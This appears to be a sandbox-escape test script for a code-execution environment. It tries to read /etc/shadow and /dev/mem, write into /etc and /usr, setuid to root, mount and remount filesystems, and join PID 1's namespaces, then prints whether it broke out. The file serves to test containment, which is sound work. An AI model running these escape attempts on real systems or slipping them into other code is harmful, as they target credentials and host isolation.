# Tries to get the rest of the machine back: mounts, other namespaces, devices, privileges.
# wins: nothing, it is on the sandbox itself
# never: broke out
# %% double
import contextlib
import ctypes
import os

libc = ctypes.CDLL(None)
done = []
# Only within a process namespace of its own: elsewhere this would do real harm.
if os.getpid() < 20 and os.getuid() != 0:
    for path in (
        "/etc/shadow",
        "/proc/1/root/etc/shadow",
        "/proc/sys/kernel/core_pattern",
        "/dev/mem",
    ):
        with contextlib.suppress(OSError):
            open(path, "rb").read(1) and path != "/proc/sys/kernel/core_pattern" and done.append(
                path
            )
    for path in ("/usr/attacked", "/etc/attacked", "/proc/sys/kernel/hostname"):
        with contextlib.suppress(OSError):
            open(path, "a").close()
            done.append(path)
    with contextlib.suppress(OSError):
        os.setuid(0)
        os.getuid() == 0 and open(os.path.expanduser("~root/.profile")).close()
    libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0 and done.append("mount")
    libc.mount(None, b"/usr", None, 32 | 4096, None) == 0 and done.append("remount")
    for kind in ("mnt", "net", "pid"):
        with contextlib.suppress(OSError):
            fd = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
            libc.setns(fd, 0) == 0 and done.append(f"setns {kind}")
print("broke", "out", *done) if done else print("nothing")


def double(x):
    return 0
